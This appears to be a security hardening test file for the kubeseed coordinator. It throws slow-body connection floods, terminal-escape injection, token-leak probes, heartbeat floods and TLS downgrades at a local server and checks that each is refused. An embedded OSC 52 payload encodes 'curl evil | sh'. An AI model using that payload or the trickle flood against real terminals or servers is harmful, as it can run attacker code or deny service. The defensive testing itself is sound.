/**
 * Issue 18's attacks against a real coordinator (runServe, the code `kubeseed serve` runs) on
 * loopback, as a child process with a 256-descriptor limit and KUBESEED_PASSPHRASE set. Each test
 * tries one attack and prints what was tried and what the coordinator refused:
 * trickled request bodies from one address (per-source connection cap, 30 s request timeout),
 * secrets at rest in store/journal.log, terminal escape sequences in remote strings reaching
 * `kubeseed status`/`hosts`, tokens in URLs reaching the log, base64-encoded PEM and upper-case
 * tokens in reported log tails, heartbeat floods, stalled event-stream subscribers (in process:
 * the test needs a volume of events no agent can produce any more) and TLS 1.2 CBC suites.
 */
import { type ChildProcess, spawn } from 'node:child_process';
import { copyFileSync, existsSync, mkdirSync, readFileSync, rmSync } from 'node:fs';
import { connect as netConnect } from 'node:net';
import { join } from 'node:path';
import { connect, type TLSSocket } from 'node:tls';
import { Agent, request } from 'undici';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cmdHosts } from '../../cli/coordinator-commands.ts';
import { cmdStatus } from '../../cli/status-command.ts';
import { Redactor, redactText } from '../../protocol/redact.ts';
import type { CoordinatorEvent } from '../../server/coordinator.ts';
import { startFuzzCoordinator } from '../support/fuzz-harness.ts';
import { tempDir } from '../support/temp-dir.ts';
import { freePort, prepareStateDir, untilListening } from '../unit/server/child-server.ts';
import { type AgentIdentity, createAgent, enrollBody, OPERATOR_TOKEN, signedHeaders } from '../unit/server/support.ts';

const ENTRY = join(import.meta.dirname, 'hardening-entry.ts');
const PASSPHRASE = 'correct horse battery staple for the hardening test';
const FD_LIMIT = 256;
const TOKEN_SHAPE = /[a-z0-9]{6}\.[a-z0-9]{16}/;

let stateDir = '';
let port = 0;
let ca = '';
let child: ChildProcess | undefined;
let output = '';
let operatorToken = '';
let dispatcher: Agent;
const agents = new Map<string, AgentIdentity>();
const url = () => `https://127.0.0.1:${port}`;

function startChild(passphrase = PASSPHRASE): Promise<ChildProcess> {
  // prlimit: the descriptor limit the red team used; the soft limit equals the hard one, so nothing can raise it.
  const proc = spawn('prlimit', [`--nofile=${FD_LIMIT}:${FD_LIMIT}`, process.execPath, '--import', 'tsx', ENTRY, stateDir, String(port)], {
    stdio: ['ignore', 'pipe', 'pipe'],
    env: { ...process.env, KUBESEED_PASSPHRASE: passphrase },
  });
  return untilListening(proc, 30_000, (text) => {
    output += text;
  });
}

async function stopChild(): Promise<void> {
  const proc = child;
  child = undefined;
  if (!proc || proc.exitCode !== null || proc.signalCode !== null) return;
  const exited = new Promise((r) => proc.once('exit', r));
  proc.kill('SIGKILL');
  await exited;
}

async function call(
  method: 'GET' | 'POST',
  path: string,
  options: { agent?: AgentIdentity; body?: unknown; headers?: Record<string, string>; timeoutMs?: number } = {},
): Promise<{ status: number; text: string; headers: Record<string, unknown> }> {
  const body = options.body === undefined ? '' : JSON.stringify(options.body);
  const headers = {
    ...(options.agent ? signedHeaders(options.agent, method, path, body, Date.now()) : {}),
    ...(body ? { 'content-type': 'application/json' } : {}),
    ...options.headers,
  };
  const res = await request(`${url()}${path}`, {
    method,
    headers,
    dispatcher,
    signal: AbortSignal.timeout(options.timeoutMs ?? 10_000),
    ...(body ? { body } : {}),
  });
  return { status: res.statusCode, text: await res.body.text(), headers: res.headers };
}

const operator = { authorization: '' };

beforeAll(async () => {
  stateDir = tempDir('ks-hardening-');
  ca = prepareStateDir(stateDir).ca;
  // `kubeseed status` pins <state>/tls/ca.crt.
  mkdirSync(join(stateDir, 'tls'), { recursive: true });
  copyFileSync(join(stateDir, 'tls.crt'), join(stateDir, 'tls', 'ca.crt'));
  port = await freePort();
  child = await startChild();
  operatorToken = readFileSync(join(stateDir, 'operator-token'), 'utf8').trim();
  operator.authorization = `Bearer ${operatorToken}`;
  dispatcher = new Agent({ connect: { ca }, connections: 16 });
  for (const [i, name] of ['lb1', 'lb2', 'cp1', 'cp2', 'cp3', 'w1'].entries()) agents.set(name, createAgent(name, i));
  for (const name of ['lb1', 'lb2', 'cp1'])
    expect((await call('POST', '/v1/enroll', { body: enrollBody(agents.get(name)!) })).status).toBe(200);
}, 60_000);

afterAll(async () => {
  for (const socket of trickles) socket.destroy();
  await stopChild();
  await dispatcher?.close();
  if (stateDir) rmSync(stateDir, { recursive: true, force: true });
});

// ───────────────────────────── slow bodies ─────────────────────────────

const trickles: TLSSocket[] = [];
const TRICKLE_CONNECTIONS = 250;
let trickleStart = 0;
const trickleClosedAt = new Map<TLSSocket, number>();
/** When each held connection sent its request headers (its request's age counts from there). */
const trickleSentAt = new Map<TLSSocket, number>();

/** One connection from `localAddress` that sends the headers of a 1000-byte body, then one byte every 5 s. */
function trickle(localAddress: string): Promise<'open' | 'refused'> {
  return new Promise((resolve) => {
    const tcp = netConnect({ host: '127.0.0.1', port, localAddress });
    tcp.on('error', () => {});
    const socket = connect({ socket: tcp, ca, servername: 'localhost' });
    let settled = false;
    const settle = (v: 'open' | 'refused') => {
      if (!settled) {
        settled = true;
        resolve(v);
      }
    };
    socket.on('error', () => settle('refused'));
    socket.on('close', () => {
      trickleClosedAt.set(socket, Date.now());
      settle('refused');
    });
    // The server's answer (408) is read, so its close is seen when it happens.
    socket.on('data', () => {});
    socket.once('secureConnect', () => {
      socket.setTimeout(0);
      socket.write('POST /v1/enroll HTTP/1.1\r\nHost: 127.0.0.1\r\ncontent-type: application/json\r\ncontent-length: 1000\r\n\r\n{');
      trickles.push(socket);
      trickleSentAt.set(socket, Date.now());
      const timer = setInterval(() => {
        if (socket.destroyed) clearInterval(timer);
        else socket.write(' ');
      }, 5000);
      timer.unref();
      // A socket the server accepted and did not drop within 300 ms counts as held open.
      setTimeout(() => settle(socket.destroyed ? 'refused' : 'open'), 300);
    });
    socket.setTimeout(5000, () => {
      socket.destroy();
      settle('refused');
    });
  });
}

describe('attack: trickled request bodies', () => {
  it(`${TRICKLE_CONNECTIONS} connections from one address sending 1 byte / 5 s do not lock out the operator (fd limit ${FD_LIMIT})`, async () => {
    trickleStart = Date.now();
    const results = await Promise.all(Array.from({ length: TRICKLE_CONNECTIONS }, () => trickle('127.0.0.2')));
    const held = results.filter((r) => r === 'open').length;
    const started = Date.now();
    const status = await call('GET', '/v1/status', { headers: operator, timeoutMs: 5000 }).catch((e: Error) => ({
      status: 0,
      text: e.message,
    }));
    console.log(
      `[hardening] attack: ${TRICKLE_CONNECTIONS} trickling POST bodies from 127.0.0.2 under a ${FD_LIMIT}-fd limit → ${held} held, ${TRICKLE_CONNECTIONS - held} refused; operator GET /v1/status from 127.0.0.1 → ${status.status} in ${Date.now() - started} ms`,
    );
    expect(status.status).toBe(200);
    expect(held).toBeLessThan(TRICKLE_CONNECTIONS / 2);
  }, 60_000);
});

// ───────────────────────────── secrets at rest ─────────────────────────────

let initStep: { id: string; attempt: number; files: { content: string }[] } | undefined;
let bootstrapToken = '';
const LOG_SECRET = 'password=Tr0ub4dor-in-a-log-tail';

describe('attack: reading store/journal.log with KUBESEED_PASSPHRASE set', () => {
  it('the bootstrap token and report log tails are not in the journal or snapshot in plaintext', async () => {
    for (const lb of ['lb1', 'lb2']) {
      const agent = agents.get(lb)!;
      const next = await call('GET', '/v1/next?wait=0', { agent });
      expect(next.status).toBe(200);
      const step = JSON.parse(next.text).step;
      const report = await call('POST', '/v1/report', {
        agent,
        body: {
          stepId: step.id,
          attempt: step.attempt,
          outcome: 'succeeded',
          logTail: `check ok; ${LOG_SECRET}`,
          startedAt: Date.now(),
          finishedAt: Date.now(),
          results: { portOpen: true, vipHeld: true },
        },
      });
      expect(report.status, report.text).toBe(200);
    }
    for (let i = 0; i < 20 && !initStep; i++) {
      const next = await call('GET', '/v1/next?wait=1000', { agent: agents.get('cp1')! });
      if (next.status === 200) initStep = JSON.parse(next.text).step;
    }
    expect(initStep?.id).toBe('cp1/kubeadm-init');
    bootstrapToken = TOKEN_SHAPE.exec(JSON.stringify(initStep))![0];
    const store = join(stateDir, 'store');
    const atRest = ['journal.log', 'snapshot.json']
      .map((f) => join(store, f))
      .filter(existsSync)
      .map((f) => readFileSync(f, 'latin1'))
      .join('\n');
    const found = [bootstrapToken, LOG_SECRET].filter((s) => atRest.includes(s));
    console.log(
      `[hardening] attack: grep store/ (${atRest.length} bytes) for the live bootstrap token and a secret from a log tail → found ${found.length ? found.join(', ') : 'neither'}`,
    );
    expect(found).toEqual([]);
  });
});

// ───────────────────────────── terminal injection ─────────────────────────────

const OSC52 = `\x1b]52;c;${Buffer.from('curl evil | sh').toString('base64')}\x07`;
const CSI = '\x9b2J';

function captured(): { io: Parameters<typeof cmdStatus>[1]; text: () => string } {
  let out = '';
  return {
    io: { stdout: (s) => (out += s), stderr: (s) => (out += s), env: {}, cwd: stateDir, isTTY: false },
    text: () => out,
  };
}

describe('attack: escape sequences in remote strings', () => {
  it('a heartbeat message and an enrollment machine-id with ESC]52 / C1 controls reach `kubeseed status` and `hosts` escaped', async () => {
    const beat = await call('POST', '/v1/heartbeat', {
      agent: agents.get('cp1')!,
      body: { phase: `init${CSI}`, message: `pulling ${OSC52}`, clock: Date.now() },
    });
    expect(beat.status).toBe(200);
    const lb1 = agents.get('lb1')!;
    const clone = await call('POST', '/v1/enroll', { body: enrollBody(lb1, { facts: { ...lb1.facts, machineId: `x${OSC52}${CSI}` } }) });
    expect(clone.status).toBe(409);
    const status = captured();
    await cmdStatus(['--state', stateDir, '--url', url(), '--token', operatorToken], status.io);
    const hosts = captured();
    await cmdHosts(['--state', stateDir, '--url', url(), '--token', operatorToken], hosts.io);
    const raw = (text: string) => /[\x00-\x08\x0b-\x1f\x7f-\x9f]/.test(text);
    console.log(
      `[hardening] attack: OSC 52 + C1 CSI in a heartbeat (phase, message) and an enrollment machine-id → status output raw controls: ${raw(status.text())}, hosts output raw controls: ${raw(hosts.text())}`,
    );
    expect(status.text()).toContain('pulling');
    expect(status.text()).toContain('security events');
    expect(raw(status.text())).toBe(false);
    expect(raw(hosts.text())).toBe(false);
  });
});

// ───────────────────────────── redaction ─────────────────────────────

function base64Pem(): string {
  const pem = `-----BEGIN EC PRIVATE KEY-----\n${Buffer.from('not a real key but long enough to look like one '.repeat(3)).toString('base64')}\n-----END EC PRIVATE KEY-----\n`;
  return Buffer.from(pem).toString('base64');
}

describe('attack: secrets in encodings the redactor did not know', () => {
  it('a reported log tail with a base64-encoded PEM key and an upper-case bootstrap token is stored redacted', async () => {
    const encoded = base64Pem();
    const upper = 'ABCDEF.0123456789ABCDEF';
    const tail = `client-key-data: ${encoded}\ntoken ${upper}\n${OSC52}failed`;
    const report = await call('POST', '/v1/report', {
      agent: agents.get('cp1')!,
      body: {
        stepId: initStep!.id,
        attempt: initStep!.attempt,
        outcome: 'failed',
        reason: 'kubeadm-failed',
        logTail: tail,
        startedAt: Date.now(),
        finishedAt: Date.now(),
      },
    });
    expect(report.status, report.text).toBe(200);
    const status = await call('GET', '/v1/status', { headers: operator });
    const leaked = [encoded.slice(0, 40), upper].filter((s) => status.text.includes(s));
    const agentSide = redactText(tail);
    const agentLeaked = [encoded.slice(0, 40), upper].filter((s) => agentSide.includes(s));
    console.log(
      `[hardening] attack: base64 PEM + upper-case token in a log tail → coordinator kept ${leaked.length ? leaked.join(', ') : 'neither'}; agent redaction kept ${agentLeaked.length ? agentLeaked.join(', ') : 'neither'}`,
    );
    expect(leaked).toEqual([]);
    expect(agentLeaked).toEqual([]);
    expect(new Redactor().redact(tail)).not.toContain(encoded.slice(0, 40));
    // The failure log lines `kubeseed status` prints are escaped too.
    const out = captured();
    await cmdStatus(['--state', stateDir, '--url', url(), '--token', operatorToken], out.io);
    expect(out.text()).toContain('failed');
    expect(/[\x00-\x08\x0b-\x1f\x7f-\x9f]/.test(out.text())).toBe(false);
  });

  it('the operator token and token-shaped strings in URLs never reach the log, and the banner does not print the token', async () => {
    const probes = [
      `/v1/status?token=${operatorToken}`,
      `/${operatorToken}`,
      `/v1/admin/hosts/${operatorToken}/retry`,
      `/v1/next?x=${bootstrapToken}`,
      `/status/app.js?v=${'ab12'.repeat(16)}&k=${'Zx9_'.repeat(10)}`,
    ];
    const answers: number[] = [];
    for (const path of probes) answers.push((await call('GET', path)).status);
    await new Promise((r) => setTimeout(r, 300));
    const leaked = [operatorToken, bootstrapToken, 'Zx9_'.repeat(10)].filter((s) => output.includes(s));
    console.log(
      `[hardening] attack: ${probes.length} requests with tokens in the path or query (answers ${answers.join(',')}) → in the coordinator's output: ${leaked.length ? leaked.map((s) => `${s.slice(0, 6)}…`).join(', ') : 'none'}`,
    );
    expect(leaked).toEqual([]);
    expect(output).toContain(join(stateDir, 'operator-token'));
  });
});

// ───────────────────────────── floods ─────────────────────────────

describe('attack: heartbeat flood', () => {
  it('one host sending 60 heartbeats back to back is throttled (429), and subscribers see few of them', async () => {
    const events = await request(`${url()}/v1/events`, { headers: operator, dispatcher });
    let received = '';
    events.body.on('data', (chunk: Buffer) => {
      received += chunk.toString();
    });
    const cp1 = agents.get('cp1')!;
    const codes: number[] = [];
    for (let i = 0; i < 60; i++)
      codes.push(
        (await call('POST', '/v1/heartbeat', { agent: cp1, body: { phase: 'flood', message: `beat ${i}`, clock: Date.now() } })).status,
      );
    await new Promise((r) => setTimeout(r, 300));
    events.body.destroy();
    const accepted = codes.filter((c) => c === 200).length;
    const seen = received.split('event: heartbeat').length - 1;
    console.log(
      `[hardening] attack: 60 heartbeats from cp1 in a row → ${accepted} accepted, ${codes.filter((c) => c === 429).length} refused (429); ${seen} reached the event stream`,
    );
    expect(accepted).toBeLessThanOrEqual(15);
    expect(codes.filter((c) => c === 429).length).toBeGreaterThan(40);
    expect(seen).toBeLessThanOrEqual(15);
  });
});

// ───────────────────────────── TLS ─────────────────────────────

function handshake(ciphers: string): Promise<string> {
  return new Promise((resolve) => {
    const socket = connect({ host: '127.0.0.1', port, ca, servername: 'localhost', maxVersion: 'TLSv1.2', minVersion: 'TLSv1.2', ciphers });
    socket.once('secureConnect', () => {
      const name = socket.getCipher().name;
      socket.destroy();
      resolve(name);
    });
    socket.once('error', () => resolve('refused'));
  });
}

describe('attack: TLS 1.2 downgrade to CBC / SHA-1 suites', () => {
  it('CBC suites are refused; ECDHE with AES-GCM or ChaCha20 is accepted', async () => {
    const cbc = [
      'ECDHE-ECDSA-AES128-SHA',
      'ECDHE-ECDSA-AES256-SHA',
      'ECDHE-ECDSA-AES128-SHA256',
      'ECDHE-ECDSA-AES256-SHA384',
      'AES128-SHA',
    ];
    const refused: string[] = [];
    for (const suite of cbc) if ((await handshake(suite)) === 'refused') refused.push(suite);
    const gcm = await handshake('ECDHE-ECDSA-AES128-GCM-SHA256');
    const chacha = await handshake('ECDHE-ECDSA-CHACHA20-POLY1305');
    console.log(
      `[hardening] attack: TLS 1.2 with ${cbc.join(', ')} → refused ${refused.length}/${cbc.length}; AEAD suites negotiated: ${gcm}, ${chacha}`,
    );
    expect(refused).toEqual(cbc);
    expect(gcm).toBe('ECDHE-ECDSA-AES128-GCM-SHA256');
    expect(chacha).toBe('ECDHE-ECDSA-CHACHA20-POLY1305');
  });
});

// ───────────────────────────── last: what the trickle left behind ─────────────────────────────

describe('attack: trickled bodies, after 30 s', () => {
  it('the coordinator closed every trickling connection it had accepted once its request was 30 s old', async () => {
    const held = trickles.length;
    const until = trickleStart + 50_000;
    while (Date.now() < until && trickles.some((s) => !trickleClosedAt.has(s))) await new Promise((r) => setTimeout(r, 250));
    const closedAfter = trickles.filter((s) => trickleClosedAt.has(s)).map((s) => trickleClosedAt.get(s)! - trickleSentAt.get(s)!);
    console.log(
      `[hardening] attack: ${held} trickling connections held → ${closedAfter.length} closed by the coordinator, ${(Math.min(...closedAfter) / 1000).toFixed(1)}–${(Math.max(0, ...closedAfter) / 1000).toFixed(1)} s after their request began`,
    );
    expect(closedAfter.length).toBe(held);
    expect(Math.max(0, ...closedAfter)).toBeLessThan(36_000);
  }, 60_000);

  it('a restart with the same passphrase reads the encrypted store back; a wrong one is refused by name', async () => {
    const before = JSON.parse((await call('GET', '/v1/status', { headers: operator })).text).token;
    await stopChild();
    output = '';
    await expect(startChild('wrong passphrase')).rejects.toThrow(/KUBESEED_PASSPHRASE/);
    output = '';
    child = await startChild();
    const after = JSON.parse((await call('GET', '/v1/status', { headers: operator })).text).token;
    console.log(`[hardening] restart: token ${before?.id} before, ${after?.id} after; a wrong passphrase is refused`);
    expect(after).toEqual(before);
  }, 60_000);
});

// ───────────────────────────── last: in process, after the timing-sensitive checks above ─────────────────────────────

describe('attack: stalled event-stream subscribers', () => {
  it('20 stalled event-stream subscribers are dropped instead of buffering without bound (RSS stays bounded)', async () => {
    // Without the background compression of the built agent executables (~150 MB of this process's
    // RSS while it runs), which would be counted as the subscribers' growth.
    const fc = await startFuzzCoordinator({ workers: 1, warmAgentCache: false });
    try {
      const address = fc.app.server.address() as { port: number };
      const stalled: TLSSocket[] = [];
      for (let i = 0; i < 20; i++) {
        const socket = connect({ host: '127.0.0.1', port: address.port, rejectUnauthorized: false });
        await new Promise((r) => socket.once('secureConnect', r));
        socket.write(`GET /v1/events HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer ${OPERATOR_TOKEN}\r\n\r\n`);
        socket.pause();
        socket.on('error', () => {});
        stalled.push(socket);
      }
      const listeners = () => fc.app.coordinator.events.listenerCount('event');
      for (let i = 0; i < 100 && listeners() < 20; i++) await new Promise((r) => setTimeout(r, 20));
      expect(listeners()).toBe(20);
      global.gc?.();
      const before = process.memoryUsage().rss;
      const message = 'x'.repeat(1000);
      // 40 MB of events per subscriber: far beyond what the kernel's socket buffers absorb.
      for (let i = 0; i < 40_000; i++) {
        fc.app.coordinator.events.emit('event', { type: 'heartbeat', host: 'cp1', phase: 'step', message } satisfies CoordinatorEvent);
        if (i % 500 === 0) await new Promise((r) => setImmediate(r));
      }
      await new Promise((r) => setTimeout(r, 200));
      const growth = (process.memoryUsage().rss - before) / 1024 / 1024;
      console.log(
        `[hardening] attack: 20 subscribers that never read, 40 MB of events each → ${20 - listeners()} dropped, ${listeners()} still attached; RSS +${growth.toFixed(0)} MB`,
      );
      for (const socket of stalled) socket.destroy();
      expect(listeners()).toBe(0);
      expect(growth).toBeLessThan(200);
    } finally {
      await fc.close();
      rmSync(fc.stateDir, { recursive: true, force: true });
    }
  }, 60_000);
});
